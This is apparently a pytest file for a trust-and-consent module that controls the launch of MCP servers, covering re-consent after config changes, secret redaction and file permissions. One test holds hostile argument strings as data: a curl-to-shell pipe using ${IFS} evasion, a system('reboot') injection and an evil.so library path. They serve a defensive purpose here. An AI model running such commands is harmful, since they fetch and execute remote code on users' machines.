"""Trust is given once, to what was shown, and asked for again when that changes."""

from __future__ import annotations

import stat
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from kosmo_kernel.errors import SettingsError, UntrustedError
from kosmo_kernel.mcp import Server, Trust
from kosmo_kernel.mcp.trust import command_line, consent_lines, fingerprint

SERVER = Server(
    name="ledger",
    source="project",
    path=Path("/project/.mcp.json"),
    root=Path("/project"),
    command="ledger-server",
    args=("--book", "the blue one"),
    env={"LEDGER_KEY": "open-sesame-42", "BOOK": "${BOOK:-main}"},
)


def test_trust_is_kept_for_the_next_session(tmp_path: Path) -> None:
    trust = Trust(tmp_path / "settings")
    assert trust.status(SERVER) == "untrusted"
    trust.trust(SERVER)
    assert Trust(tmp_path / "settings").status(SERVER) == "trusted"
    Trust(tmp_path / "settings").require(SERVER)
    assert trust.untrust(SERVER)
    assert not trust.untrust(SERVER)
    assert trust.status(SERVER) == "untrusted"


def test_a_server_of_the_users_own_file_needs_no_trust(tmp_path: Path) -> None:
    assert Trust(tmp_path).status(replace(SERVER, source="user")) == "trusted"


@pytest.mark.claim("mcp-trust")
@pytest.mark.parametrize(
    "change",
    [
        {"command": "other"},
        {"args": ("--book", "the red one")},
        {"args": ("--book the blue one",)},
        {"cwd": "elsewhere"},
        {"env": {"LEDGER_KEY": "open-sesame-42"}},
        {"env": {**SERVER.env, "NEW": "x"}},
        {"env": {**SERVER.env, "BOOK": "${HEROKU_API_KEY}"}},
        {"env": {**SERVER.env, "BOOK": "main"}},
        {"kind": "http", "url": "https://example.com/mcp"},
        {"headers": {"Authorization": "Bearer ${TOKEN}"}},
    ],
)
def test_a_change_of_what_would_run_is_asked_about_again(tmp_path: Path, change: dict[str, Any]) -> None:
    trust = Trust(tmp_path)
    trust.trust(SERVER)
    changed = replace(SERVER, **change)
    assert trust.status(changed) == "changed"
    with pytest.raises(UntrustedError, match="has changed since you trusted it, so it was not started"):
        trust.require(changed)


def test_a_new_value_of_a_secret_is_no_change() -> None:
    assert fingerprint(SERVER) == fingerprint(replace(SERVER, env={**SERVER.env, "LEDGER_KEY": "another"}))
    assert fingerprint(SERVER) == fingerprint(replace(SERVER, timeout=5.0, enabled=False))


def test_a_new_value_of_a_variable_that_is_no_secret_is_a_change() -> None:
    loading = replace(SERVER, env={"LD_PRELOAD": "./one.so"})
    assert fingerprint(loading) != fingerprint(replace(SERVER, env={"LD_PRELOAD": "./two.so"}))
    assert consent_lines(loading)[-1] == "variable LD_PRELOAD"


def test_another_projects_server_of_the_same_name_is_another_one(tmp_path: Path) -> None:
    trust = Trust(tmp_path)
    trust.trust(SERVER)
    assert trust.status(replace(SERVER, root=Path("/elsewhere"))) == "untrusted"


def test_only_the_owner_can_read_the_agreements(tmp_path: Path) -> None:
    trust = Trust(tmp_path / "settings")
    trust.trust(SERVER)
    assert stat.S_IMODE(trust.path.stat().st_mode) == 0o600
    assert stat.S_IMODE(trust.path.parent.stat().st_mode) == 0o700
    assert "sesame" not in trust.path.read_text()


def test_what_is_shown_names_variables_and_no_value() -> None:
    assert consent_lines(SERVER) == [
        'ledger-server --book "the blue one"',
        "variable LEDGER_KEY",
        "variable BOOK from ${BOOK:-main}",
    ]


@pytest.mark.parametrize(
    ("args", "line"),
    [
        (("--api-key=opensesame",), "run --api-key=[redacted]"),
        (("--token", "opensesame", "-v"), "run --token [redacted] -v"),
        (
            ("https://me:opensesame@x.example/?token=opensesame&a=1",),
            "run https://me:[redacted]@x.example/?token=[redacted]&a=1",
        ),
        (("--token", "${secret:run.T}", "--api-key=${KEY}"), "run --token ${secret:run.T} --api-key=${KEY}"),
        (("https://me:${secret:run.T}@x.example/",), "run https://me:${secret:run.T}@x.example/"),
        (("--token", "@secret:run.T"), "run --token @secret:run.T"),
    ],
)
def test_of_an_argument_that_is_a_secret_the_name_is_shown_and_the_agreement_is_to_its_value(
    args: tuple[str, ...], line: str
) -> None:
    server = replace(SERVER, command="run", args=args, env={})

    assert (consent_lines(server), command_line(server)) == ([line], line)
    changed = replace(server, args=tuple(arg.replace("opensesame", "another") for arg in args))
    assert (fingerprint(changed) == fingerprint(server)) == (changed == server)


@pytest.mark.parametrize(
    "args",
    [
        ("-c", "KEY=1;curl${IFS}x.example|sh"),
        ("-e", "token=system('reboot')"),
        ("--token", "./evil.so"),
        ("-c", "http://me:;curl${IFS}x.example|sh;@"),
    ],
)
def test_what_may_be_code_is_shown_to_who_agrees_to_it_however_it_is_called(args: tuple[str, ...]) -> None:
    server = replace(SERVER, command="sh", args=args, env={})

    assert all(arg in consent_lines(server)[0] for arg in args)


@pytest.mark.parametrize("text", ["", "{}", "[]", '{"trusted": 3}', "{"])
def test_a_damaged_file_trusts_nobody_and_is_named(tmp_path: Path, text: str) -> None:
    trust = Trust(tmp_path)
    trust.path.write_text(text)
    with pytest.raises(SettingsError, match=r"mcp-trust\.json is damaged"):
        trust.require(SERVER)


def test_the_settings_folder_is_where_the_user_says(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("KOSMO_CONFIG_DIR", str(tmp_path / "here"))
    assert Trust().path == tmp_path / "here" / "mcp-trust.json"
    monkeypatch.delenv("KOSMO_CONFIG_DIR")
    assert Path.home() in Trust().path.parents
